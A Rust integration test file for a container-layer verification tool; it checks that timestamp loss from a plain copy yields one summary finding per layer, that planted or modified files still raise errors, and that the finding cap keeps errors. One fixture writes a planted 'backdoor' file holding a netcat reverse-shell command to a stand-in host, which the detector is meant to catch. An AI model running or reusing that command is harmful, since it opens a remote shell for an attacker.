//! Findings that neither hide nor flood (issue 10), on copies of a real data-root:
//! a copy that did not keep times (`cp -r`) gives one summary finding per layer, not
//! one per file, while a planted or modified file still stands out; the per-layer
//! cap never drops an error in favour of a warning.

use crate::support::*;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

/// A copy as `cp -r` makes it (as root): no times, no xattrs, no hard links kept;
/// owners become root's.
fn plain_copy(src: &Path) -> tempfile::TempDir {
    let dir = tempfile::Builder::new()
        .prefix("strata-cp-r-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    let status = Command::new("cp")
        .arg("-r")
        .arg(format!("{}/.", src.display()))
        .arg(dir.path())
        .status()
        .expect("run cp");
    assert!(status.success(), "cp -r failed");
    dir
}

/// `strata verify --format json` with `args`: (exit status, findings).
fn verify(root: &Path, args: &[&str]) -> (i32, Vec<Value>) {
    let mut all = vec!["verify"];
    all.extend_from_slice(args);
    all.extend(["--format", "json"]);
    let (code, out, err) = run(root, &all);
    assert!(code == 0 || code == 1, "strata {all:?} exited {code}: {err}");
    let v: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("bad JSON ({e}): {out}"));
    (code, v["findings"].as_array().unwrap().clone())
}

/// The layer with the most entries (busybox's), and its content directory.
fn biggest_layer(root: &Path) -> (String, PathBuf) {
    let layers = run_json(root, &["layers"]);
    let l =
        layers.as_array().unwrap().iter().max_by_key(|l| l["size"].as_i64().unwrap_or(0)).unwrap();
    let dir = root.join(l["driver_dir"].as_str().unwrap()).join("diff");
    (l["chain_id"].as_str().unwrap().to_owned(), dir)
}

fn is_time(f: &Value) -> bool {
    f["message"].as_str().unwrap().contains("modification time")
}

fn in_layer<'a>(fs: &'a [Value], layer: &str) -> impl Iterator<Item = &'a Value> + 'a {
    let layer = layer.to_owned();
    fs.iter().filter(move |f| f["layer"] == layer.as_str())
}

#[test]
fn copy_without_times_is_one_summary_per_layer_and_planted_files_stand_out() {
    require_root!();
    let copy = plain_copy(&data_root("basic"));
    let root = copy.path();
    let (layer, content) = biggest_layer(root);
    // What a responder must still see in the flood: a planted file under a
    // directory the layer has, and a modified one.
    std::fs::write(content.join("bin/backdoor"), b"#!/bin/sh\nnc -e /bin/sh evil 4444\n").unwrap();
    let busybox = content.join("bin/busybox");
    let mut bytes = std::fs::read(&busybox).unwrap();
    bytes[1000] ^= 0xff;
    std::fs::write(&busybox, &bytes).unwrap();

    let (code, fs) = verify(root, &[]);
    assert_eq!(code, 1, "a planted and a modified file are errors");
    let ours: Vec<&Value> = in_layer(&fs, &layer).collect();
    let summaries: Vec<&&Value> =
        ours.iter().filter(|f| is_time(f) && f["path"].is_null()).collect();
    assert_eq!(summaries.len(), 1, "one time summary for the layer: {ours:#?}");
    let msg = summaries[0]["message"].as_str().unwrap();
    assert_eq!(summaries[0]["code"], "layer-metadata-modified");
    assert_eq!(summaries[0]["severity"], "warning");
    // Every entry but the layer root is compared, and all of them were copied anew.
    let entries: Vec<Value> = {
        let (c, out, _) = run(root, &["files", &layer, "--format", "json"]);
        assert_eq!(c, 0);
        serde_json::from_str::<Value>(&out).unwrap()[0]["files"].as_array().unwrap().clone()
    };
    // Hard links are compared as links, not by time; the root's time is the driver's.
    let compared = entries.iter().filter(|e| e["path"] != "." && e["type"] != "hardlink").count();
    assert!(
        msg.contains(&format!("on {compared} of {compared} entries")),
        "{msg} (the layer has {} entries)",
        entries.len()
    );
    assert!(msg.contains("(e.g. "), "{msg}");
    assert!(
        !ours.iter().any(|f| is_time(f) && !f["path"].is_null()),
        "times listed one by one: {ours:#?}"
    );
    let has = |code: &str, path: &str| {
        ours.iter().any(|f| f["code"] == code && f["path"] == path && f["severity"] == "error")
    };
    assert!(has("layer-file-added", "bin/backdoor"), "{ours:#?}");
    assert!(has("layer-file-modified", "bin/busybox"), "{ours:#?}");
    // What is left is the copy's real losses (setuid and sticky bits, a capability, a
    // hard link, owners), one finding each.
    assert!(ours.len() <= 12, "still a flood: {ours:#?}");

    // --all-findings: one by one, as many as the summary counted.
    let (_, all) = verify(root, &["--all-findings"]);
    let times = in_layer(&all, &layer).filter(|f| is_time(f) && !f["path"].is_null()).count();
    assert_eq!(times, compared, "--all-findings");
    assert!(in_layer(&all, &layer).all(|f| !(is_time(f) && f["path"].is_null())));

    // --ignore-times: no time compared anywhere; what was planted is still there.
    let (code, quiet) = verify(root, &["--ignore-times", "--ignore-owners"]);
    assert_eq!(code, 1);
    assert!(!quiet.iter().any(is_time), "{quiet:#?}");
    assert!(!quiet.iter().any(|f| f["message"].as_str().unwrap().contains("owner")), "{quiet:#?}");
    assert!(quiet.iter().any(|f| f["code"] == "layer-file-added" && f["path"] == "bin/backdoor"));
    // Owners: the copy made every file root's; the tar has some owned by others.
    let (_, loud) = verify(root, &["--ignore-times"]);
    assert!(
        loud.iter().any(|f| f["message"].as_str().unwrap().contains("owner 0:0 (tar: 1000:1000)")),
        "{loud:#?}"
    );

    // The audit says the same.
    let (code, report) = crate::support::audit::audit(root, &["--ignore-times"]);
    assert_eq!(code, 1);
    let fs = report["findings"].as_array().unwrap();
    assert!(!fs.iter().any(is_time), "audit --ignore-times");
    assert!(fs.iter().any(|f| f["code"] == "layer-file-added" && f["path"] == "bin/backdoor"));
    let (_, report) = crate::support::audit::audit(root, &[]);
    let fs = report["findings"].as_array().unwrap();
    assert_eq!(
        in_layer(fs, &layer).filter(|f| is_time(f) && f["path"].is_null()).count(),
        1,
        "audit: one summary"
    );
}

/// The cap, lowered to 3: metadata warnings met first (modes changed) and a planted
/// file met after them; the error is kept, the warnings are counted, and the count
/// carries the worst severity it dropped.
#[test]
fn the_cap_never_drops_an_error_for_a_warning() {
    require_root!();
    let copy = copy_tree(&data_root("basic"));
    let root = copy.path();
    let (layer, content) = biggest_layer(root);
    use std::os::unix::fs::PermissionsExt;
    let bin: Vec<PathBuf> = std::fs::read_dir(content.join("bin"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| std::fs::symlink_metadata(p).unwrap().file_type().is_file())
        .collect();
    assert!(!bin.is_empty());
    // Warnings on every link of bin/ (busybox's applets are hard links or symlinks;
    // the symlinks cannot be chmodded, so touch every entry's owner instead).
    let mut warned = 0;
    for e in std::fs::read_dir(content.join("bin")).unwrap() {
        let p = e.unwrap().path();
        std::os::unix::fs::lchown(&p, Some(4242), Some(4242)).unwrap();
        warned += 1;
    }
    assert!(warned > 5, "{warned}");
    std::fs::set_permissions(&bin[0], std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(content.join("zz-planted"), b"x").unwrap();

    let (code, fs) = verify(root, &["--all-findings", "--max-findings-per-layer", "3"]);
    assert_eq!(code, 1, "the planted file fails the run: {fs:#?}");
    let ours: Vec<&Value> = in_layer(&fs, &layer).collect();
    assert!(
        ours.iter().any(|f| f["code"] == "layer-file-added" && f["path"] == "zz-planted"),
        "the error was dropped: {ours:#?}"
    );
    let with_path = ours.iter().filter(|f| !f["path"].is_null()).count();
    assert_eq!(with_path, 3, "{ours:#?}");
    let cap: Vec<&&Value> = ours.iter().filter(|f| f["code"] == "limit-exceeded").collect();
    assert_eq!(cap.len(), 1, "{ours:#?}");
    assert_eq!(cap[0]["severity"], "warning", "only warnings were dropped: {cap:#?}");
    let msg = cap[0]["message"].as_str().unwrap();
    assert!(msg.contains(" 0 errors"), "{msg}");

    // Errors alone over the cap: what is dropped is an error, and says so.
    for i in 0..5 {
        std::fs::write(content.join(format!("zz-planted-{i}")), b"x").unwrap();
    }
    let (code, fs) = verify(root, &["--max-findings-per-layer", "3"]);
    assert_eq!(code, 1);
    let cap: Vec<&Value> =
        in_layer(&fs, &layer).filter(|f| f["code"] == "limit-exceeded").collect();
    assert_eq!(cap.len(), 1);
    assert_eq!(cap[0]["severity"], "error", "{cap:#?}");
    let added = in_layer(&fs, &layer).filter(|f| f["code"] == "layer-file-added").count();
    assert_eq!(added, 3);
    // The audit's exit status counts it too, even with --fail-on error only.
    let (code, _) = crate::support::audit::audit(root, &["--max-findings-per-layer", "3"]);
    assert_eq!(code, 1);
}

/// `diff --ignore-times` / `--ignore-owners`: a path the container copied up but left
/// as it was is no change; after a copy moved its time (or owner), the engine's rule
/// makes it one, and the flags leave that out.
#[test]
fn diff_can_leave_times_and_owners_out() {
    require_root!();
    let copy = copy_tree(&data_root("basic"));
    let root = copy.path();
    let id = "396d3350f4698e137f4f0dd17f57108a6d5b4c580d52c5e702313a376e715046";
    let containers = run_json(root, &["containers"]);
    let rw = containers.as_array().unwrap().iter().find(|c| c["id"] == id).unwrap()["rw_dir"]
        .as_str()
        .unwrap()
        .to_owned();
    let upper = root.join(rw).join("opt/lower/keep.txt");
    // The container only chmodded keep.txt (copy-up keeps time and owner): undo that,
    // so the copy-up differs from its lower file in nothing.
    let lower = std::fs::read_dir(root.join("overlay2"))
        .unwrap()
        .map(|e| e.unwrap().path().join("diff/opt/lower/keep.txt"))
        .find(|p| p.is_file() && !upper.starts_with(p.parent().unwrap()))
        .expect("the image's keep.txt");
    let lower_meta = std::fs::metadata(&lower).unwrap();
    std::fs::set_permissions(&upper, lower_meta.permissions()).unwrap();
    let changed = |args: &[&str]| -> bool {
        let mut all = vec!["diff", id];
        all.extend_from_slice(args);
        let v = run_json(root, &all);
        v.as_array().unwrap().iter().any(|c| c["path"] == "/opt/lower/keep.txt")
    };
    assert!(!changed(&[]), "an unchanged copy-up is no change");
    // A copy that did not keep times: the copy-up's time moved.
    let t = filetime_of(&lower) + 3600;
    run_ok(Command::new("touch").arg("-d").arg(format!("@{t}")).arg(&upper));
    assert!(changed(&[]), "the engine's rule counts the time");
    assert!(!changed(&["--ignore-times"]));
    // And one that did not keep owners.
    std::os::unix::fs::lchown(&upper, Some(4242), Some(4242)).unwrap();
    assert!(changed(&["--ignore-times"]));
    assert!(!changed(&["--ignore-times", "--ignore-owners"]));
}

fn filetime_of(p: &Path) -> i64 {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(p).unwrap().mtime()
}

fn run_ok(cmd: &mut Command) {
    let status = cmd.status().expect("run");
    assert!(status.success(), "{cmd:?} failed");
}
